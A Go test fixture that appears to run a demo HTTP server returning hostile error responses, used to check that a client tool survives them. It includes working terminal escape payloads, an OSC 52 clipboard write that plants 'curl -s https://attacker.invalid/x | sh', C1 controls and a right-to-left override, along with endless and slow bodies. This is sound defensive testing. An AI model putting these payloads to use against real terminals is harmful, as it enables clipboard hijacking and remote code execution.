package demo

import (
	"bytes"
	"encoding/base64"
	"io"
	"net/http"
	"strings"
	"time"

	"github.com/andybalholm/brotli"
	"github.com/klauspost/compress/gzip"
	"github.com/klauspost/compress/zstd"
)

// Hostile answers, for tests of the client and the screen: terminal escape
// sequences, invalid UTF-8, bodies that never end or trickle, encoded
// bodies. None of them may hang, flood or drive the terminal of apierr.

// clipboardAttack is what a hostile server would put on the clipboard.
var clipboardAttack = base64.StdEncoding.EncodeToString([]byte("curl -s https://attacker.invalid/x | sh"))

// escapePayload has the sequences a hostile server would use: colour,
// an OSC 52 clipboard write, a screen clear and a BEL.
var escapePayload = "\x1b[31mcard declined\x1b[0m" +
	"\x1b]52;c;" + clipboardAttack + "\x07" +
	"\x1b[2J\x1b[H"

// c1Payload is the same attack with 8-bit controls written as UTF-8 (CSI
// U+009B, OSC U+009D, ST U+009C) and a right-to-left override. HTTP
// clients accept these bytes in header values (they are obs-text), and
// some terminals obey them.
var c1Payload = "\u009b31mdenied\u009b0m \u009d52;c;" + clipboardAttack + "\u009c \u202etxt.exe"

func hostileEndpoints() []endpoint {
	route := func(path string, status int, format, desc string, h http.Header, slow bool) Route {
		return Route{Method: "GET", Path: path, Status: status, Format: format, Description: "Hostile: " + desc, Header: h, Slow: slow}
	}
	var compressed []Route
	for _, enc := range []string{"gzip", "br", "zstd"} {
		compressed = append(compressed, route("/other/compressed/"+enc, 400, "error-string",
			"an error body sent with Content-Encoding: "+enc+" (even when not asked for)", http.Header{"Accept-Encoding": {enc}}, false))
	}
	return []endpoint{
		{
			pattern:  "GET /other/hostile/escapes",
			handler:  hostileEscapes,
			examples: []Route{route("/other/hostile/escapes", 400, "error-string", "escape sequences and an OSC 52 clipboard write in the message, 8-bit ones in a header", nil, false)},
		},
		{
			pattern: "GET /other/hostile/escape-header",
			handler: hostileEscapeHeader,
			// Format transport: Go's client refuses the header line, so
			// apierr gets no response at all.
			examples: []Route{route("/other/hostile/escape-header", 400, "transport", "a raw ESC OSC 52 sequence in a header line (clients refuse the response)", nil, false)},
		},
		{
			pattern:  "GET /other/hostile/invalid-utf8",
			handler:  hostileUTF8,
			examples: []Route{route("/other/hostile/invalid-utf8", 400, "error-string", "invalid UTF-8 bytes inside a JSON error", nil, false)},
		},
		{
			pattern:  "GET /other/hostile/endless",
			handler:  hostileEndless,
			examples: []Route{route("/other/hostile/endless", 500, "text", "a body that never ends (until the client stops reading)", nil, true)},
		},
		{
			pattern:  "GET /other/hostile/drip",
			handler:  hostileDrip,
			examples: []Route{route("/other/hostile/drip", 500, "error-string", "an error body sent one byte a second", nil, true)},
		},
		{
			pattern:  "GET /other/compressed/{encoding}",
			handler:  compressedError,
			examples: compressed,
		},
	}
}

func hostileEscapes(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("X-Request-Id", newRequestID())
	w.Header().Set("X-Error-Detail", c1Payload)
	sendJSON(w, http.StatusBadRequest, map[string]string{"error": "Payment failed: " + escapePayload + " " + c1Payload})
}

// hostileEscapeHeader puts raw C0 escape sequences in a header line. Go's
// server writes header values as given (apart from CR and LF); HTTP
// clients that validate header lines, Go's among them, reject the whole
// response as malformed.
func hostileEscapeHeader(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("X-Request-Id", newRequestID())
	w.Header().Set("X-Error-Detail", "denied "+escapePayload)
	sendJSON(w, http.StatusBadRequest, map[string]string{"error": "Payment failed"})
}

func hostileUTF8(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("X-Request-Id", newRequestID())
	// Latin-1 "é", a lone continuation byte, a truncated sequence, and an
	// overlong encoding of "/".
	send(w, http.StatusBadRequest, "application/json; charset=utf-8", []byte("{\"error\":\"Caf\xe9 not found: \x80 \xe2\x82 \xc0\xaf\"}\n"))
}

// hostileEndless streams a 500 body until the client hangs up or the
// server closes.
func hostileEndless(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "text/plain; charset=utf-8")
	w.Header().Set("X-Request-Id", newRequestID())
	w.WriteHeader(http.StatusInternalServerError)
	chunk := bytes.Repeat([]byte("error: the server keeps talking and never finishes this answer\n"), 512)
	ctx := r.Context()
	for ctx.Err() == nil {
		if _, err := w.Write(chunk); err != nil {
			return
		}
	}
	// The server is closing: cut the body off instead of ending it
	// cleanly, so the client cannot mistake it for a complete answer.
	panic(http.ErrAbortHandler)
}

// hostileDrip sends a short JSON error one byte a second, flushing each.
func hostileDrip(w http.ResponseWriter, r *http.Request) {
	body := []byte(`{"error":"upstream timeout"}` + "\n")
	rc := http.NewResponseController(w)
	w.Header().Set("Content-Type", ctJSON)
	w.Header().Set("X-Request-Id", newRequestID())
	w.WriteHeader(http.StatusInternalServerError)
	tick := time.NewTicker(time.Second)
	defer tick.Stop()
	for i := range body {
		if _, err := w.Write(body[i : i+1]); err != nil {
			return
		}
		if rc.Flush() != nil {
			return
		}
		if i == len(body)-1 {
			return
		}
		select {
		case <-r.Context().Done():
			panic(http.ErrAbortHandler) // as in hostileEndless
		case <-tick.C:
		}
	}
}

// compressedError sends a JSON error with the named Content-Encoding,
// whatever Accept-Encoding said: some servers do, and clients must cope.
func compressedError(w http.ResponseWriter, r *http.Request) {
	enc := r.PathValue("encoding")
	plain := marshal(map[string]string{"error": "Invalid request: this error body was sent with Content-Encoding: " + enc})
	var buf bytes.Buffer
	var zw io.WriteCloser
	switch enc {
	case "gzip":
		zw = gzip.NewWriter(&buf)
	case "br":
		zw = brotli.NewWriter(&buf)
	case "zstd":
		z, err := zstd.NewWriter(&buf)
		if err != nil {
			panic("demo: zstd writer: " + err.Error())
		}
		zw = z
	default:
		w.Header().Set("X-Request-Id", newRequestID())
		sendJSON(w, http.StatusNotFound, map[string]string{"error": "unknown encoding " + strings.ToValidUTF8(enc, "?") + "; use gzip, br or zstd"})
		return
	}
	_, _ = zw.Write(plain)
	_ = zw.Close()
	h := w.Header()
	h.Set("Content-Encoding", enc)
	h.Set("Vary", "Accept-Encoding")
	h.Set("X-Request-Id", newRequestID())
	send(w, http.StatusBadRequest, ctJSON, buf.Bytes())
}
